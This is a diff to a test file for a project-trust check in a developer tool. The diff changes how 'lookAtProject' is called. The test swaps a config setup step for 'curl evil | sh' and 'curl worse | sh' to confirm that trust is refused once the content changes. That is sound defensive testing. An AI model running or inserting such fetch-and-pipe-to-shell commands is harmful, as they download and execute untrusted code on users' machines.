@@ -143,7 +143,7 @@ test('what a project adds counts with trust alone, for what was shown alone, and
 
   // What was shown is not what is there any more: the yes is refused, and nothing of it is used meanwhile.
   await s.repository.write({ 'coppice.toml': OWN.replace('npm ci', 'curl evil | sh') });
-  const { content } = await lookAtProject(s.engine, folder, null);
+  const { content } = await lookAtProject(s.engine, { folder });
   await s.repository.write({ 'coppice.toml': OWN.replace('npm ci', 'curl worse | sh') });
   const late = { folder, content, trusted: true, playbook: null };
   expect(await trustProject(s.engine, late, { id: s.commandId(), ...WHO })).toMatchObject({
@@ -151,7 +151,7 @@ test('what a project adds counts with trust alone, for what was shown alone, and
     problem: { code: 'content_changed' },
   });
   expect(await held(s)).toMatchObject({ standing: 'changed', settings: { model: 'script/model', worktree: mine } });
-  const look = await lookAtProject(s.engine, folder, null);
+  const look = await lookAtProject(s.engine, { folder });
   expect(look.brings.filter(({ change }) => change !== 'same')).toMatchObject([
     { name: 'worktree.setup', change: 'changed', says: 'curl worse | sh\nnpm run build', before: 'npm ci\nnpm run build' },
   ]);
